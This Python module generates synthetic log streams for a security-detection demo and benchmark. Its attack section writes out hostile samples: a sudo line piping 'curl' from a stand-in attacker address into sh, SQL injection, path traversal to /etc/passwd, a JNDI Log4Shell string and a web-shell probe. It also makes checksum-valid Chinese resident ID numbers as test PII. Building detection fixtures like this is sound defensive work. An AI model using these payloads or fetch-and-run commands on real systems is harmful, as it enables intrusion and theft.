"""Deterministic synthetic event streams (clearly synthetic: RFC 5737/1918 addresses, example hosts).

Used by the demo command, the tests and the detection benchmark. `benign_lines` is ordinary traffic
that must raise nothing; `attack_lines` adds a brute force followed by a success, web scanning and
injection, and a port scan; `leak_items` holds valid resident ID numbers among invalid look-alikes.
"""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta

from stdnum.cn import ric

ATTACKER = "203.0.113.66"  # RFC 5737 TEST-NET-3
SCANNER = "198.51.100.23"  # RFC 5737 TEST-NET-2
INTERNAL = [f"10.20.{i // 250}.{i % 250 + 1}" for i in range(400)]
HOSTS = ["ls-hospital-app01", "ls-edu-web01", "nq-mine-gw01", "sn-park-db01", "rkz-tour-web01"]
WEB_PATHS = [
    "/",
    "/index.html",
    "/api/v1/status",
    "/static/app.css",
    "/static/app.js",
    "/news/2026/11/23",
    "/login",
    "/api/v1/projects?page=2",
    "/images/logo.png",
    "/cases/lhasa-remote-care",
]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
]
USERS = ["zhaxi", "dawa", "baima", "ops", "deploy", "lhamo"]


def _ts3164(t: datetime) -> str:
    local = t.astimezone(UTC) + timedelta(hours=8)
    return (
        local.strftime("%b %d %H:%M:%S").replace(" 0", "  ", 1)
        if local.day < 10
        else local.strftime("%b %d %H:%M:%S")
    )


def _ts5424(t: datetime) -> str:
    return t.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def _access(t: datetime, ip: str, method: str, path: str, status: int, agent: str) -> str:
    stamp = (t.astimezone(UTC) + timedelta(hours=8)).strftime("%d/%b/%Y:%H:%M:%S +0800")
    return f'{ip} - - [{stamp}] "{method} {path} HTTP/1.1" {status} {random.randint(200, 9000)} "-" "{agent}"'


def benign_lines(n: int, *, start: datetime | None = None, seed: int = 7) -> list[bytes]:
    rnd = random.Random(seed)
    random.seed(seed)
    start = start or datetime.now(UTC) - timedelta(minutes=30)
    lines = []
    for i in range(n):
        t = start + timedelta(milliseconds=i * 50)
        host = rnd.choice(HOSTS)
        kind = rnd.random()
        if kind < 0.45:
            body = _access(
                t,
                rnd.choice(INTERNAL),
                rnd.choice(["GET", "GET", "POST"]),
                rnd.choice(WEB_PATHS),
                rnd.choice([200, 200, 200, 304, 301]),
                rnd.choice(AGENTS),
            )
            lines.append(f"<134>{_ts3164(t)} {host} nginx: {body}")
        elif kind < 0.6:
            lines.append(
                f"<38>1 {_ts5424(t)} {host} sshd {rnd.randint(1000, 9000)} - - Accepted publickey for "
                f"{rnd.choice(USERS)} from {rnd.choice(INTERNAL)} port {rnd.randint(30000, 60000)} ssh2"
            )
        elif kind < 0.7:
            lines.append(
                f"<86>{_ts3164(t)} {host} sudo:   {rnd.choice(USERS)} : TTY=pts/0 ; PWD=/home/ops ; "
                f"USER=root ; COMMAND=/usr/bin/systemctl restart nginx"
            )
        elif kind < 0.85:
            lines.append(
                f"<30>1 {_ts5424(t)} {host} systemd 1 - - Started Session {rnd.randint(1, 9999)} of user "
                f"{rnd.choice(USERS)}."
            )
        else:
            lines.append(
                f"<4>{_ts3164(t)} fw-lhasa-01 kernel: [UFW ALLOW] IN=eth0 OUT= SRC={rnd.choice(INTERNAL)} "
                f"DST=10.0.0.10 PROTO=TCP SPT={rnd.randint(30000, 60000)} DPT={rnd.choice([80, 443, 8883])}"
            )
    return [line.encode() for line in lines]


# The ports a scanner tries first (nmap's most common TCP ports), more than the port-scan rule needs.
SCANNED_PORTS = (
    21,
    22,
    23,
    25,
    53,
    80,
    110,
    111,
    135,
    139,
    143,
    443,
    445,
    993,
    995,
    1433,
    1723,
    3306,
    3389,
    5900,
    6379,
    8080,
    8443,
    9200,
    27017,
)


def attack_lines(*, start: datetime | None = None, seed: int = 11) -> list[bytes]:
    """Brute force (20 failures) then a success; web scan with injections; a port scan."""
    random.Random(seed)
    random.seed(seed)
    start = start or datetime.now(UTC) - timedelta(minutes=10)
    lines = []
    t = start
    for i in range(20):
        t = start + timedelta(seconds=i * 3)
        user = ["root", "admin", "oracle", "test"][i % 4]
        lines.append(
            f"<38>1 {_ts5424(t)} sn-park-db01 sshd {4000 + i} - - Failed password for invalid user {user} "
            f"from {ATTACKER} port {40000 + i} ssh2"
        )
    t += timedelta(seconds=5)
    lines.append(
        f"<38>1 {_ts5424(t)} sn-park-db01 sshd 4100 - - Accepted password for deploy from {ATTACKER} "
        f"port 41000 ssh2"
    )
    t += timedelta(seconds=20)
    lines.append(
        f"<86>{_ts3164(t)} sn-park-db01 sudo:   deploy : TTY=pts/1 ; PWD=/tmp ; USER=root ; "
        f"COMMAND=/bin/bash -c curl http://{ATTACKER}/x.sh | sh"
    )
    probes = [
        "/.git/config",
        "/.env",
        "/phpmyadmin/index.php",
        "/wp-config.php.bak",
        "/admin",
        "/backup.zip",
        "/index.php?id=1%20union%20select%201,2,3",
        "/download?file=../../../../etc/passwd",
        "/search?q=${jndi:ldap://198.51.100.23/a}",
        "/shell.php?cmd=whoami",
    ]
    for i in range(40):
        tt = t + timedelta(seconds=30 + i)
        path = probes[i % len(probes)] if i < len(probes) else f"/dir{i}/"
        lines.append(
            f"<134>{_ts3164(tt)} rkz-tour-web01 nginx: "
            + _access(tt, SCANNER, "GET", path, 404, "sqlmap/1.7.2#stable (https://sqlmap.org)")
        )
    for i in range(25):
        tt = t + timedelta(seconds=80, milliseconds=i * 200)
        port = SCANNED_PORTS[i % len(SCANNED_PORTS)]
        lines.append(
            f"<4>{_ts3164(tt)} fw-lhasa-01 kernel: [UFW BLOCK] IN=eth0 OUT= SRC={SCANNER} DST=10.0.0.10 "
            f"PROTO=TCP SPT={50000 + i} DPT={port}"
        )
    return [line.encode() for line in lines]


def valid_resident_ids(n: int, seed: int = 3) -> list[str]:
    """Valid GB 11643 numbers (real Xizang region codes, valid dates, correct check character)."""
    rnd = random.Random(seed)
    regions = [
        "540102",
        "540103",
        "540121",
        "540202",
        "540302",
        "540402",
        "540502",
        "540602",
        "542521",
    ]
    out = []
    while len(out) < n:
        body = (
            rnd.choice(regions)
            + f"{rnd.randint(1950, 2005)}{rnd.randint(1, 12):02d}{rnd.randint(1, 28):02d}"
            + f"{rnd.randint(0, 999):03d}"
        )
        number = body + ric.calc_check_digit(body)
        if ric.is_valid(number):
            out.append(number)
    return out


def invalid_lookalikes(valid: list[str]) -> list[str]:
    """Per valid number: wrong check character, impossible date, unknown region."""
    out = []
    for number in valid:
        body = number[:17]
        good = ric.calc_check_digit(body)
        wrong = next(c for c in "0123456789X" if c != good)
        out.append(body + wrong)
        bad_date = body[:10] + "13" + body[12:]
        out.append(bad_date + ric.calc_check_digit(bad_date))
        bad_region = "990000" + body[6:]
        out.append(bad_region + ric.calc_check_digit(bad_region))
    return out


def leak_items(
    *, valid_count: int = 5, start: datetime | None = None
) -> tuple[list[dict], list[str]]:
    """HTTP JSON items of an application log: valid ID numbers among invalid look-alikes."""
    start = start or datetime.now(UTC) - timedelta(minutes=5)
    valid = valid_resident_ids(valid_count)
    items = []
    for i, number in enumerate(valid):
        items.append(
            {
                "time": (start + timedelta(seconds=i)).isoformat(),
                "program": "patient-api",
                "host": "ls-hospital-app01",
                "action": "api_response",
                "outcome": "success",
                "message": f"GET /api/patients/{1000 + i} -> 200",
                "payload": f'{{"name": "测试{i}", "id_no": "{number}"}}',
            }
        )
    for i, number in enumerate(invalid_lookalikes(valid)):
        items.append(
            {
                "time": (start + timedelta(seconds=30 + i)).isoformat(),
                "program": "patient-api",
                "host": "ls-hospital-app01",
                "action": "api_response",
                "outcome": "success",
                "message": f"order reference {number} accepted",
            }
        )
    return items, valid
